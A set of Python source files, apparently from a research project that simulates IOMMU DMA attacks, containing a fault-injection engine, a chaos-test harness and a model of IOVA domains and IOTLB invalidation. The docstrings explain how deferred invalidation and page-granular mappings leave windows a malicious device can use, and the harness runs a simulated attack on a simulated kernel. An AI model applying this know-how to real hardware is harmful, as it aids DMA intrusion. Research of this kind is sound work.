    """Mixin base tagging engine-raised exceptions with their site."""

    def __init__(self, site: str, message: str | None = None) -> None:
        super().__init__(message or f"injected fault at {site}")
        self.site = site


class InjectedOutOfMemory(InjectedFault, OutOfMemoryError):
    """An allocator returned the kernel's NULL path on command."""


class InjectedDmaMapError(InjectedFault, DmaApiError):
    """``dma_map_single`` failed on command (DMA_MAPPING_ERROR)."""


class InjectedCacheError(InjectedFault, OSError):
    """A perfcache disk-tier read/write hit an injected I/O error."""


class InjectedWorkerCrash(InjectedFault, CampaignError):
    """A campaign worker crashed mid-seed on command."""


class InjectedDurabilityCrash(InjectedFault, OSError):
    """A persistence-layer write died at a crash point on command.

    An ``OSError`` on purpose: every writer already treats disk I/O
    errors as survivable (heartbeats swallow them, perfcache degrades,
    campaign appends surface as seed failures), so the raise-mode
    crash point exercises exactly those recovery paths. Kill-mode
    (``action="kill"`` / ``REPRO_CRASH``) skips raising entirely and
    hard-exits, leaving whatever residue a power loss would.
    """


_active: FaultPlan | None = None

#: sites armed by the active plan; a frozenset so hot loops can hoist
#: the ``site in faults.active_sites`` guard (empty when inactive)
active_sites: frozenset = frozenset()

#: process-cumulative per-site fire counts, across every plan this
#: process ran (the chaos report aggregates phases from here)
_fired_total: Counter = Counter()


def install(plan: FaultPlan) -> FaultPlan:
    """Arm *plan*; exactly one plan may be active per process."""
    global _active, active_sites
    if _active is not None:
        raise FaultError("a fault plan is already installed")
    if not isinstance(plan, FaultPlan):
        raise FaultError(f"not a FaultPlan: {plan!r}")
    _active = plan
    active_sites = plan.sites
    return plan


def uninstall() -> FaultPlan | None:
    global _active, active_sites
    plan, _active = _active, None
    active_sites = frozenset()
    return plan


def active() -> FaultPlan | None:
    return _active


@contextmanager
def session(plan: FaultPlan | None):
    """Swap *plan* in for the duration (restoring any previous plan).

    ``session(None)`` is a no-op context, so callers with an optional
    spec need no branching.
    """
    global _active, active_sites
    if plan is None:
        yield None
        return
    previous = _active
    _active = plan
    active_sites = plan.sites
    try:
        yield plan
    finally:
        _active = previous
        active_sites = previous.sites if previous is not None \
            else frozenset()


def fires(site: str) -> Firing | None:
    """Poll *site* against the active plan; records + publishes a hit.

    Returns the :class:`Firing` when the fault should be injected
    (the caller decides *how* -- raise, drop, truncate, sleep), else
    None. Inactive engine: always None, no counter advance.
    """
    plan = _active
    if plan is None:
        return None
    firing = plan.poke(site)
    if firing is None:
        return None
    _fired_total[site] += 1
    if "fault" in trace.active_categories:
        trace.emit("fault", site, step=firing.step, nth=firing.nth)
    # lazy: repro.metrics -> collectors -> perfcache -> faults cycle
    from repro import metrics
    metrics.count("faults", "injected", site=site)
    return firing


def fired_counts() -> dict:
    """Cumulative per-site fire counts for this process."""
    return dict(_fired_total)


def reset_fired_counts() -> None:
    _fired_total.clear()


def spec_from_env(environ=None) -> FaultSpec | None:
    """The ``REPRO_FAULTS`` plan, or None when unset/off."""
    environ = os.environ if environ is None else environ
    value = environ.get("REPRO_FAULTS", "").strip()
    if not value or value.lower() in ("off", "0", "false", "no"):
        return None
    try:
        with open(value, encoding="utf-8") as handle:
            doc = json.load(handle)
    except (OSError, ValueError) as exc:
        raise FaultError(
            f"REPRO_FAULTS={value!r}: cannot load fault plan: {exc}")
    return FaultSpec.from_json(doc)
