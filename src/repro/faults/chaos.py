"""The ``repro-dma chaos`` harness: run the stack under a fault plan.

Two phases, mirroring the :meth:`~repro.faults.spec.FaultSpec.split`
partition of the plan:

* **Phase A (kernel faults)** -- the three standard workloads
  (compile-ping, storage, ringflood) each boot a clean kernel, then
  run with the plan's kernel-layer rules armed on their own stream.
  A workload passes when every injected fault is absorbed by a
  recovery path; an :class:`~repro.faults.InjectedFault` that escapes
  is an *unrecovered* fault and names its site in the report.

* **Phase B (tooling faults)** -- the differential invariant: the
  campaign runs twice at the same seed, once fault-free and once with
  the plan's tooling-layer rules armed (plus retry budget). A
  recoverable plan must leave the campaign findings byte-identical --
  cache I/O errors recompute, worker crashes retry -- so the two
  results files must produce the same
  :func:`~repro.campaign.results.findings_digest`.

Exit-code policy (the CLI maps the report onto it): unrecovered fault
or digest mismatch -> nonzero, every fault absorbed -> zero.
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field

from repro import faults, trace
from repro.faults.spec import FaultSpec

#: workloads phase A runs, in stream order (stream = list index)
PHASE_A_WORKLOADS = ("compile-ping", "storage", "ringflood")


@dataclass
class WorkloadOutcome:
    """One phase-A workload (or the phase-B campaign) under faults."""

    name: str
    ok: bool
    detail: str = ""
    #: injected faults a recovery path absorbed during this run
    recovered: int = 0
    #: site of the injected fault that escaped (None when recovered)
    unrecovered_site: str | None = None


@dataclass
class ChaosReport:
    plan_seed: int = 0
    armed_sites: tuple = ()
    outcomes: list = field(default_factory=list)
    campaign: WorkloadOutcome | None = None
    baseline_digest: str | None = None
    faulted_digest: str | None = None
    #: per-site fire counts accumulated across both phases
    fired: dict = field(default_factory=dict)
    #: fault-category trace events captured during phase A
    nr_fault_events: int = 0
    #: optional phase C: the crash-and-resume matrix (``--crash-points``)
    crashtest: object | None = None

    @property
    def nr_sites_fired(self) -> int:
        return len(self.fired)

    @property
    def digests_match(self) -> bool:
        return self.baseline_digest == self.faulted_digest

    @property
    def ok(self) -> bool:
        if not all(outcome.ok for outcome in self.outcomes):
            return False
        if self.campaign is not None and not self.campaign.ok:
            return False
        if self.crashtest is not None and not self.crashtest.ok:
            return False
        return True


def _nic_recoveries(nic) -> int:
    stats = nic.stats
    return (stats.rx_refill_failed + stats.rx_ring_drops
            + stats.rx_truncated + stats.tx_dropped)


def _run_workload(name: str, plan, *, seed: int, rounds: int,
                  commands: int, profile_boots: int,
                  backend: str | None = None) -> WorkloadOutcome:
    """Boot a clean kernel, then run *name* with *plan* armed."""
    from repro.sim.kernel import Kernel

    if name == "compile-ping":
        from repro.sim.workload import run_compile_and_ping
        kernel = Kernel(seed=seed, phys_mb=256, iommu_backend=backend)
        nic = kernel.add_nic("eth0")
        with faults.session(plan):
            stats = run_compile_and_ping(kernel, nic, rounds=rounds)
        return WorkloadOutcome(
            name, True,
            detail=f"{stats.allocations} allocations, "
                   f"{stats.pings} pings",
            recovered=stats.faults_recovered + _nic_recoveries(nic))

    if name == "storage":
        from repro.sim.workload import run_storage_workload
        kernel = Kernel(seed=seed, phys_mb=256, iommu_backend=backend)
        with faults.session(plan):
            stats = run_storage_workload(kernel, commands=commands)
        return WorkloadOutcome(
            name, True,
            detail=f"{stats.commands} commands, "
                   f"{stats.bytes_transferred} bytes",
            recovered=stats.faults_recovered)

    # ringflood: replica profiling boots dozens of throwaway kernels;
    # keep them fault-free so the profile describes the real layout,
    # then arm the plan for the attack itself. The attack is allowed
    # to *fail* under faults (dropped descriptors starve the flood) --
    # that is degradation, not an unrecovered fault.
    from repro.core.attacks.ringflood import (make_attacker,
                                              profile_replica_boots,
                                              run_ringflood)
    from repro.errors import AttackFailed
    profile = profile_replica_boots(profile_boots, seed=seed,
                                    nr_slots=48)
    victim = Kernel(seed=seed, iommu_backend=backend)
    nic = victim.add_nic("eth0")
    device = make_attacker(victim, "eth0")
    with faults.session(plan):
        try:
            report = run_ringflood(victim, nic, device, profile,
                                   nr_slots=12)
            detail = f"flooded {report.slots_flooded} slots, " \
                     f"escalated={report.escalated}"
        except AttackFailed as exc:
            # chaos weather thwarting the attacker is a success for
            # the stack, not a fault that escaped recovery
            detail = f"attack aborted by injected faults ({exc})"
    return WorkloadOutcome(name, True, detail=detail,
                           recovered=_nic_recoveries(nic))


def _campaign_phase(tooling_spec: FaultSpec, scratch: str, *,
                    campaign_seeds: int, campaign_scale: float,
                    jobs: int, retry: int,
                    backend: str | None = None
                    ) -> tuple[WorkloadOutcome, str, str]:
    """Run the campaign fault-free then faulted; compare digests."""
    from repro import perfcache
    from repro.campaign.results import findings_digest, load_records
    from repro.campaign.runner import CampaignConfig, run_campaign

    def config(label: str, fault_spec: dict | None) -> CampaignConfig:
        # both runs share one cache directory on purpose: the
        # fault-free run warms it, so the faulted run's disk reads
        # are real hits the read/corrupt sites can sabotage -- and
        # must recover from without changing a single finding
        return CampaignConfig(
            nr_seeds=campaign_seeds, seed_base=1, jobs=jobs,
            mutations_per_seed=3, scale=campaign_scale,
            output=os.path.join(scratch, f"{label}.jsonl"),
            trace_events=16,
            cache_dir=os.path.join(scratch, "cache"),
            fault_spec=fault_spec, backend=backend,
            retry=retry, retry_stalled=max(1, retry))

    spec_doc = tooling_spec.to_json() if tooling_spec.rules else None
    try:
        baseline = run_campaign(config("baseline", None))
        faulted = run_campaign(config("faulted", spec_doc))
    finally:
        # don't leak the scratch disk cache into the process default
        perfcache.reset_default()

    baseline_digest = findings_digest(
        load_records(os.path.join(scratch, "baseline.jsonl")))
    faulted_digest = findings_digest(
        load_records(os.path.join(scratch, "faulted.jsonl")))

    recovered = sum(1 for record in load_records(
        os.path.join(scratch, "faulted.jsonl")).values()
        if record.get("status") == "ok" and record.get("attempt"))
    if not faulted.all_ok:
        # name the first injected site that exhausted its retries
        site = next((error.split("injected fault at ")[-1]
                     for _seed, error in faulted.failures
                     if "injected fault at" in error), None)
        detail = "; ".join(f"seed {seed}: {error}"
                           for seed, error in faulted.failures[:4])
        return (WorkloadOutcome("campaign", False, detail=detail,
                                recovered=recovered,
                                unrecovered_site=site),
                baseline_digest, faulted_digest)
    if not baseline.all_ok:
        return (WorkloadOutcome("campaign", False,
                                detail="fault-free baseline campaign "
                                       "failed (not a fault issue)"),
                baseline_digest, faulted_digest)
    if baseline_digest != faulted_digest:
        return (WorkloadOutcome(
            "campaign", False, recovered=recovered,
            detail=f"findings digest mismatch: fault-free "
                   f"{baseline_digest[:16]} != faulted "
                   f"{faulted_digest[:16]}"),
            baseline_digest, faulted_digest)
    return (WorkloadOutcome(
        "campaign", True, recovered=recovered,
        detail=f"{baseline.nr_ok} seeds, findings byte-identical to "
               f"fault-free run ({baseline_digest[:16]})"),
        baseline_digest, faulted_digest)


def run_chaos(spec: FaultSpec, scratch: str, *, seed: int = 5,
              rounds: int = 40, commands: int = 48,
              profile_boots: int = 8, campaign_seeds: int = 2,
              campaign_scale: float = 0.08, jobs: int = 1,
              retry: int = 2, trace_capacity: int = 65536,
              backend: str | None = None,
              crash_points: int = 0,
              log=lambda _msg: None) -> ChaosReport:
    """Run both chaos phases under *spec*; never raises for injected
    faults (they become report entries), only for genuine bugs.

    With ``crash_points > 0``, a phase C runs a bounded slice of the
    ``repro-dma crashtest`` matrix (that many kill points, one torn
    offset per artifact) so one ``chaos`` invocation also certifies
    crash-and-resume recovery.
    """
    kernel_spec, tooling_spec = spec.split()
    report = ChaosReport(plan_seed=spec.seed,
                         armed_sites=tuple(sorted(spec.sites)))
    faults.reset_fired_counts()

    with trace.session(capacity=trace_capacity) as recorder:
        for stream, name in enumerate(PHASE_A_WORKLOADS):
            plan = kernel_spec.compile(stream=stream) \
                if kernel_spec.rules else None
            try:
                outcome = _run_workload(name, plan, seed=seed,
                                        rounds=rounds,
                                        commands=commands,
                                        profile_boots=profile_boots,
                                        backend=backend)
            except faults.InjectedFault as exc:
                outcome = WorkloadOutcome(
                    name, False,
                    detail=f"unrecovered injected fault: {exc}",
                    unrecovered_site=exc.site)
            except Exception as exc:
                outcome = WorkloadOutcome(
                    name, False,
                    detail=f"workload crashed under faults: {exc!r}")
            report.outcomes.append(outcome)
        report.nr_fault_events = sum(
            1 for event in recorder.events if event.category == "fault")

    report.campaign, report.baseline_digest, report.faulted_digest = \
        _campaign_phase(tooling_spec, scratch,
                        campaign_seeds=campaign_seeds,
                        campaign_scale=campaign_scale, jobs=jobs,
                        retry=retry, backend=backend)
    report.fired = faults.fired_counts()

    if crash_points > 0:
        from repro.durability.crashtest import (CrashtestConfig,
                                                run_crashtest)
        report.crashtest = run_crashtest(
            CrashtestConfig(seeds=campaign_seeds, scale=campaign_scale,
                            jobs=jobs, max_per_site=1,
                            max_points=crash_points, torn_offsets=1,
                            backend=backend),
            os.path.join(scratch, "crashtest"), log=log)
    return report


def format_chaos_report(report: ChaosReport) -> str:
    lines = [f"chaos: plan seed {report.plan_seed}, "
             f"{len(report.armed_sites)} armed site(s)"]
    for outcome in report.outcomes:
        status = "ok" if outcome.ok else "UNRECOVERED"
        lines.append(f"workload {outcome.name}: {status} "
                     f"({outcome.recovered} fault(s) recovered; "
                     f"{outcome.detail})")
    if report.campaign is not None:
        status = "ok" if report.campaign.ok else "FAIL"
        lines.append(f"campaign differential: {status} "
                     f"({report.campaign.recovered} seed retr"
                     f"{'y' if report.campaign.recovered == 1 else 'ies'}"
                     f" healed; {report.campaign.detail})")
    if report.crashtest is not None:
        status = "ok" if report.crashtest.ok else "FAIL"
        lines.append(
            f"crash-and-resume: {status} "
            f"({report.crashtest.nr_points_ok}"
            f"/{len(report.crashtest.points)} kill point(s) and "
            f"{report.crashtest.nr_torn_ok}"
            f"/{len(report.crashtest.torn)} torn write(s) recovered "
            f"byte-identically)")
        if report.crashtest.error:
            lines.append(f"  crashtest error: {report.crashtest.error}")
    lines.append(f"fault trace events captured: "
                 f"{report.nr_fault_events}")
    if report.fired:
        lines.append(f"fault sites fired ({report.nr_sites_fired}):")
        for site in sorted(report.fired):
            lines.append(f"  {site} x{report.fired[site]}")
    else:
        lines.append("no fault sites fired")
    for outcome in (*report.outcomes,
                    *( [report.campaign] if report.campaign else () )):
        if outcome.unrecovered_site:
            lines.append(f"UNRECOVERED FAULT at "
                         f"{outcome.unrecovered_site} "
                         f"({outcome.name})")
    lines.append(f"chaos verdict: "
                 f"{'PASS' if report.ok else 'FAIL'}")
    return "\n".join(lines)
