"""Fault plans: what fires, where, and when -- all seed-deterministic.

A :class:`FaultSpec` is the user-facing description: one
:class:`SiteRule` per injection site, each with exactly one trigger
(``probability``, ``every_nth``, or ``at_steps``). Compiling a spec
yields a :class:`FaultPlan`, the runtime object the engine polls: per
site it keeps a step counter and (for probabilistic rules) a private
``random.Random`` stream seeded from ``(spec.seed, stream, site)`` --
so the same spec, stream, and attempt always produce the same firing
sequence, independent of what any *other* site does and of global RNG
state. That determinism is what makes chaos runs reproducible and the
recoverable-plan differential invariant (EXPERIMENTS E20) testable.

``stream`` is the caller's replication axis: the chaos harness uses
one stream per workload, the campaign runner uses the seed number, and
``attempt`` distinguishes a retry from the first try (so a rule with
``on_attempt=0`` models a crash that does *not* reproduce on retry).
"""

from __future__ import annotations

import hashlib
import json
import random
from collections import Counter
from dataclasses import dataclass

from repro.errors import FaultError

#: injection sites threaded through the simulated kernel
KERNEL_SITES = (
    "mem.buddy.alloc",      # alloc_pages returns the kernel's NULL path
    "mem.slab.kmalloc",     # kmalloc failure
    "mem.page_frag.alloc",  # page_frag_alloc failure
    "iommu.iotlb.evict",    # forced eviction storm (arg = fraction)
    "iommu.fq.delay",       # flush-queue drain skipped one period
    "net.ring.rx_drop",     # device drops the packet, descriptor kept
    "net.nic.truncate",     # truncated DMA write (arg = keep fraction)
    "dma.map",              # dma_map_single failure
)

#: injection sites in the tooling layer around the kernel
TOOLING_SITES = (
    "perfcache.read",          # disk-tier read I/O error
    "perfcache.write",         # disk-tier write I/O error
    "perfcache.corrupt",       # bit-flipped entry (fails validation)
    "campaign.worker.crash",   # injected exception inside run_seed
    "campaign.worker.hang",    # injected sleep (arg = seconds)
    "campaign.batch.crash",    # kills a whole warm-worker seed batch
    "serve.accept_drop",       # daemon drops a connection at accept
    "serve.request_abort",     # daemon aborts an accepted request
    "durability.post_write",   # tmp file fully written, not yet durable
    "durability.pre_replace",  # right before the atomic os.replace
    "durability.post_replace",  # replaced, parent dir not yet synced
    "durability.mid_append",   # half an appended JSONL line on disk
    "durability.post_append",  # appended line complete, not yet synced
)

SITES = KERNEL_SITES + TOOLING_SITES

#: site prefixes that identify tooling-layer rules (see split())
_TOOLING_PREFIXES = ("perfcache.", "campaign.", "serve.", "durability.")


@dataclass(frozen=True)
class SiteRule:
    """One site's trigger. Exactly one of the three triggers is set."""

    site: str
    probability: float | None = None
    every_nth: int | None = None
    at_steps: tuple[int, ...] | None = None
    #: stop firing after this many hits (None = unlimited)
    max_fires: int | None = None
    #: only fire on this attempt number (None = every attempt)
    on_attempt: int | None = None
    #: site-specific knob (eviction fraction, keep fraction, sleep s)
    arg: float | None = None
    #: how a durability crash point fires: ``"raise"`` (default) throws
    #: an :class:`~repro.faults.InjectedDurabilityCrash`; ``"kill"``
    #: hard-exits the process (``os._exit``), the power-loss simulation
    action: str | None = None

    def __post_init__(self) -> None:
        if self.site not in SITES:
            raise FaultError(f"unknown fault site {self.site!r} "
                             f"(valid: {', '.join(SITES)})")
        triggers = [t for t in (self.probability, self.every_nth,
                                self.at_steps) if t is not None]
        if len(triggers) != 1:
            raise FaultError(
                f"rule for {self.site} needs exactly one trigger among "
                f"probability/every_nth/at_steps, got {len(triggers)}")
        if self.probability is not None \
                and not 0.0 < self.probability <= 1.0:
            raise FaultError(f"bad probability {self.probability} "
                             f"for {self.site}")
        if self.every_nth is not None and self.every_nth <= 0:
            raise FaultError(f"bad every_nth {self.every_nth} "
                             f"for {self.site}")
        if self.at_steps is not None:
            object.__setattr__(self, "at_steps", tuple(self.at_steps))
            if any(step < 0 for step in self.at_steps):
                raise FaultError(f"negative step in at_steps "
                                 f"for {self.site}")
        if self.max_fires is not None and self.max_fires <= 0:
            raise FaultError(f"bad max_fires {self.max_fires} "
                             f"for {self.site}")
        if self.action is not None and self.action not in ("raise",
                                                           "kill"):
            raise FaultError(f"bad action {self.action!r} for "
                             f"{self.site} (expected raise or kill)")

    def to_json(self) -> dict:
        doc: dict = {"site": self.site}
        for key in ("probability", "every_nth", "max_fires",
                    "on_attempt", "arg", "action"):
            value = getattr(self, key)
            if value is not None:
                doc[key] = value
        if self.at_steps is not None:
            doc["at_steps"] = list(self.at_steps)
        return doc

    @classmethod
    def from_json(cls, doc: dict) -> "SiteRule":
        if not isinstance(doc, dict) or "site" not in doc:
            raise FaultError(f"bad fault rule {doc!r}")
        known = {"site", "probability", "every_nth", "at_steps",
                 "max_fires", "on_attempt", "arg", "action"}
        unknown = set(doc) - known
        if unknown:
            raise FaultError(f"unknown rule field(s) "
                             f"{', '.join(sorted(unknown))} "
                             f"for {doc.get('site')}")
        kwargs = dict(doc)
        if "at_steps" in kwargs:
            kwargs["at_steps"] = tuple(kwargs["at_steps"])
        return cls(**kwargs)


@dataclass(frozen=True)
class Firing:
    """One triggered fault: which site, at which step, for the Nth time."""

    site: str
    step: int      # 0-based call index at the site when it fired
    nth: int       # 1-based count of fires at this site so far
    arg: float | None = None
    action: str | None = None   # "kill" hard-exits instead of raising


class FaultSpec:
    """An immutable set of :class:`SiteRule`, one per site, plus a seed."""

    def __init__(self, rules, *, seed: int = 0) -> None:
        self.seed = int(seed)
        self.rules: tuple[SiteRule, ...] = tuple(rules)
        seen: set[str] = set()
        for rule in self.rules:
            if not isinstance(rule, SiteRule):
                raise FaultError(f"not a SiteRule: {rule!r}")
            if rule.site in seen:
                raise FaultError(f"duplicate rule for {rule.site}")
            seen.add(rule.site)

    @property
    def sites(self) -> frozenset:
        return frozenset(rule.site for rule in self.rules)

    def split(self) -> tuple["FaultSpec", "FaultSpec"]:
        """(kernel-layer spec, tooling-layer spec) partition.

        The chaos harness applies kernel rules to the workload phase
        and tooling rules to the campaign phase: kernel faults inside
        campaign workers would legitimately change findings, which
        would break the byte-identical differential invariant.
        """
        tooling = [r for r in self.rules
                   if r.site.startswith(_TOOLING_PREFIXES)]
        kernel = [r for r in self.rules if r not in tooling]
        return (FaultSpec(kernel, seed=self.seed),
                FaultSpec(tooling, seed=self.seed))

    def to_json(self) -> dict:
        return {"seed": self.seed,
                "rules": [rule.to_json() for rule in self.rules]}

    @classmethod
    def from_json(cls, doc: dict) -> "FaultSpec":
        if not isinstance(doc, dict) or "rules" not in doc:
            raise FaultError(f"bad fault spec: {doc!r}")
        return cls([SiteRule.from_json(rule) for rule in doc["rules"]],
                   seed=doc.get("seed", 0))

    def compile(self, *, stream: int = 0,
                attempt: int = 0) -> "FaultPlan":
        return FaultPlan(self, stream=stream, attempt=attempt)


def _site_stream(seed: int, stream: int, site: str) -> random.Random:
    """A private RNG per (spec seed, stream, site): stable across
    processes and Python versions (hash-randomization immune)."""
    digest = hashlib.sha256(
        f"{seed}:{stream}:{site}".encode("utf-8")).digest()
    return random.Random(int.from_bytes(digest[:8], "little"))


class FaultPlan:
    """A compiled spec: per-site counters, RNG streams, and the firing
    log. One plan per (stream, attempt); not thread-safe, not reusable
    across runs (counters advance on every poke)."""

    def __init__(self, spec: FaultSpec, *, stream: int = 0,
                 attempt: int = 0) -> None:
        self.spec = spec
        self.stream = int(stream)
        self.attempt = int(attempt)
        self._rules = {rule.site: rule for rule in spec.rules}
        self._rngs = {site: _site_stream(spec.seed, stream, site)
                      for site, rule in self._rules.items()
                      if rule.probability is not None}
        self._steps: Counter = Counter()
        self._fired: Counter = Counter()
        self.firings: list[Firing] = []

    @property
    def sites(self) -> frozenset:
        return self.spec.sites

    def poke(self, site: str) -> Firing | None:
        """Advance *site*'s step counter; return a Firing if it fires."""
        rule = self._rules.get(site)
        if rule is None:
            return None
        step = self._steps[site]
        self._steps[site] = step + 1
        if rule.on_attempt is not None \
                and rule.on_attempt != self.attempt:
            return None
        if rule.max_fires is not None \
                and self._fired[site] >= rule.max_fires:
            return None
        if rule.at_steps is not None:
            fire = step in rule.at_steps
        elif rule.every_nth is not None:
            fire = (step + 1) % rule.every_nth == 0
        else:
            fire = self._rngs[site].random() < rule.probability
        if not fire:
            return None
        self._fired[site] += 1
        firing = Firing(site, step, self._fired[site], rule.arg,
                        rule.action)
        self.firings.append(firing)
        return firing

    def fired_counts(self) -> dict:
        return dict(self._fired)

    def steps(self) -> dict:
        return dict(self._steps)


def standard_spec(seed: int = 0) -> FaultSpec:
    """The mixed recoverable plan ``repro-dma chaos`` runs by default.

    Every rule here injects a failure the stack is expected to absorb:
    allocation failures hit paths with NULL-return recovery, IOTLB
    storms and delayed drains only stretch windows, dropped/truncated
    packets are normal network weather, cache I/O errors fall back to
    recompute, and the one worker crash fires only on attempt 0 so a
    single retry heals it. Trigger cadences are tuned to the default
    chaos workload sizes so every site fires at least once.
    """
    return FaultSpec([
        SiteRule("mem.buddy.alloc", every_nth=2, max_fires=2),
        SiteRule("mem.slab.kmalloc", every_nth=50, max_fires=4),
        SiteRule("mem.page_frag.alloc", every_nth=10, max_fires=3),
        SiteRule("iommu.iotlb.evict", every_nth=10, max_fires=4,
                 arg=0.5),
        SiteRule("iommu.fq.delay", every_nth=1, max_fires=2),
        SiteRule("net.ring.rx_drop", every_nth=7, max_fires=3),
        SiteRule("net.nic.truncate", every_nth=5, max_fires=3,
                 arg=0.5),
        SiteRule("dma.map", every_nth=25, max_fires=3),
        SiteRule("perfcache.read", every_nth=3, max_fires=4),
        SiteRule("perfcache.write", every_nth=3, max_fires=4),
        SiteRule("perfcache.corrupt", every_nth=5, max_fires=3),
        SiteRule("campaign.worker.crash", at_steps=(0,), on_attempt=0),
    ], seed=seed)
