"""IOMMU model: IOVA domains, page tables, IOTLB, invalidation policies."""

from repro.iommu.perms import DmaPerm
from repro.iommu.domain import IommuDomain, IovaEntry
from repro.iommu.iova import IovaAllocator
from repro.iommu.iotlb import Iotlb
from repro.iommu.invalidation import (DeferredInvalidation, InvalidationPolicy,
                                      StrictInvalidation)
from repro.iommu.iommu import Iommu, IommuFaultRecord

__all__ = [
    "DmaPerm",
    "IommuDomain",
    "IovaEntry",
    "IovaAllocator",
    "Iotlb",
    "InvalidationPolicy",
    "StrictInvalidation",
    "DeferredInvalidation",
    "Iommu",
    "IommuFaultRecord",
]
