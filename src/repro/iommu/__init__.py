"""IOMMU model: IOVA domains, page tables, IOTLB, invalidation policies.

The core is parameterized by a pluggable hardware model from
:mod:`repro.backends` (IOTLB geometry, invalidation granularity and
cost, flush cadence, IOVA quirks); the default is the paper's Intel
VT-d model.
"""

from repro.iommu.perms import DmaPerm
from repro.iommu.domain import IommuDomain, IovaEntry
from repro.iommu.iova import IovaAllocator
from repro.iommu.iotlb import Iotlb
from repro.iommu.invalidation import (DeferredInvalidation, InvalidationPolicy,
                                      StrictInvalidation)
from repro.iommu.iommu import Iommu, IommuFaultRecord

__all__ = [
    "DmaPerm",
    "IommuDomain",
    "IovaEntry",
    "IovaAllocator",
    "Iotlb",
    "InvalidationPolicy",
    "StrictInvalidation",
    "DeferredInvalidation",
    "Iommu",
    "IommuFaultRecord",
]
