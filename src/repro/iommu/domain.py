"""IOMMU protection domain: the per-device IOVA page table.

The page table is page-granular -- the architectural fact behind every
sub-page vulnerability: "the IOMMU cannot fully protect the kernel ...
because it only restricts DMA at page-level granularity".

A single physical frame may be referenced by multiple IOVA entries with
different permissions (section 2.2), which is what makes type (c)
vulnerabilities possible: unmapping one IOVA leaves the frame reachable
through another.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass

from repro.errors import DmaApiError
from repro.iommu.iova import IovaAllocator
from repro.iommu.perms import DmaPerm


@dataclass(frozen=True)
class IovaEntry:
    """One page-table entry: IOVA page -> physical frame + permission."""

    iova_pfn: int
    pfn: int
    perm: DmaPerm


class IommuDomain:
    """One device's I/O address space."""

    def __init__(self, domain_id: int, name: str, *,
                 iova_limit: int | None = None,
                 iova_free_cache: bool = True) -> None:
        self.domain_id = domain_id
        self.name = name
        self._entries: dict[int, IovaEntry] = {}        # iova_pfn -> entry
        self._by_pfn: dict[int, set[int]] = defaultdict(set)  # pfn -> iova_pfns
        iova_kwargs = {} if iova_limit is None else {"limit": iova_limit}
        self.iova_allocator = IovaAllocator(free_cache=iova_free_cache,
                                            **iova_kwargs)

    def map_page(self, iova_pfn: int, pfn: int, perm: DmaPerm) -> IovaEntry:
        if iova_pfn in self._entries:
            raise DmaApiError(
                f"domain {self.name}: IOVA page {iova_pfn:#x} already mapped")
        entry = IovaEntry(iova_pfn, pfn, perm)
        self._entries[iova_pfn] = entry
        self._by_pfn[pfn].add(iova_pfn)
        return entry

    def unmap_page(self, iova_pfn: int) -> IovaEntry:
        entry = self._entries.pop(iova_pfn, None)
        if entry is None:
            raise DmaApiError(
                f"domain {self.name}: unmap of unmapped IOVA page "
                f"{iova_pfn:#x}")
        self._by_pfn[entry.pfn].discard(iova_pfn)
        if not self._by_pfn[entry.pfn]:
            del self._by_pfn[entry.pfn]
        return entry

    def lookup(self, iova_pfn: int) -> IovaEntry | None:
        """Page-table walk; None models a not-present entry (fault)."""
        return self._entries.get(iova_pfn)

    def iova_pfns_of_pfn(self, pfn: int) -> frozenset[int]:
        """All live IOVA pages that reference frame *pfn*.

        More than one element means a type (c) sub-page vulnerability:
        the device retains access through the surviving IOVAs after any
        one of them is unmapped.
        """
        return frozenset(self._by_pfn.get(pfn, ()))

    def mapped_pfns(self) -> frozenset[int]:
        return frozenset(self._by_pfn)

    @property
    def nr_entries(self) -> int:
        return len(self._entries)
