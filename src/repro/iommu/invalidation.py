"""IOTLB invalidation policies: strict vs. deferred (Figure 6).

* **Strict** invalidates the IOTLB entry synchronously on every unmap,
  charging the backend's invalidation cost each time (~2000 cycles on
  Intel VT-d, vmexit-priced on virtio-iommu). After unmap the device
  has *no* window.
* **Deferred** (the Linux default on VT-d) queues invalidations and
  drains them on a periodic timer, amortizing the cost. The page-table
  entry is gone, but the cached translation keeps working until the
  flush: "a malicious device can take advantage of this time window,
  where it has access to memory pages unbeknownst to the CPU"
  (section 5.2.1). What a drain invalidates is backend-dependent:
  ``"domain"`` drops every cached entry (VT-d, AMD-Vi), ``"range"``
  drops exactly the queued pages with one batched cost (SMMUv3 TLBI),
  and ``"page"`` drops the queued pages paying the cost per page.
"""

from __future__ import annotations

from abc import ABC, abstractmethod
from dataclasses import dataclass

from repro import faults, trace
from repro.backends import DEFAULT_BACKEND, INVALIDATION_GRANULARITIES
from repro.iommu.iotlb import IOTLB_INVALIDATION_CYCLES, Iotlb
from repro.sim.clock import SimClock

#: Linux's deferred flush period upper bound cited by the paper: 10 ms
#: (the default backend's cadence; per-backend periods live in the
#: backend spec).
DEFAULT_FLUSH_PERIOD_US = DEFAULT_BACKEND.flush_period_us


@dataclass
class InvalidationStats:
    unmaps: int = 0
    sync_invalidations: int = 0
    deferred_invalidations: int = 0
    flushes: int = 0
    cycles_spent: int = 0
    delayed_flushes: int = 0  # injected fq.delay faults absorbed


class InvalidationPolicy(ABC):
    """Strategy invoked by the IOMMU core on every unmap."""

    def __init__(self, clock: SimClock, iotlb: Iotlb, *,
                 invalidation_cycles: int = IOTLB_INVALIDATION_CYCLES,
                 trace_extra: dict | None = None) -> None:
        if invalidation_cycles <= 0:
            raise ValueError(
                f"bad invalidation cost {invalidation_cycles}")
        self._clock = clock
        self._iotlb = iotlb
        self._cycles = invalidation_cycles
        # non-default backends tag their events (e.g. backend=NAME);
        # the default tags nothing, keeping pre-backend traces intact
        self._trace_extra = trace_extra or {}
        self.stats = InvalidationStats()

    @property
    def invalidation_cycles(self) -> int:
        return self._cycles

    @property
    @abstractmethod
    def name(self) -> str:
        """Policy name as it would appear in ``intel_iommu=`` options."""

    @abstractmethod
    def on_unmap(self, domain_id: int, iova_pfn: int) -> None:
        """Handle removal of a page-table entry."""

    @abstractmethod
    def max_window_us(self) -> float:
        """Upper bound on how long a stale entry may survive an unmap."""

    @abstractmethod
    def queue_post_flush(self, fn) -> None:
        """Run *fn* once the unmap is actually visible to the device.

        Linux's flush queue releases the IOVA range only after the
        IOTLB invalidation lands; modeling that here keeps freed IOVAs
        from being re-allocated while stale cached translations (with
        the *old* permissions) still cover them.
        """

    def _charge(self, cycles: int) -> None:
        self.stats.cycles_spent += cycles
        self._clock.charge_cycles(cycles)


class StrictInvalidation(InvalidationPolicy):
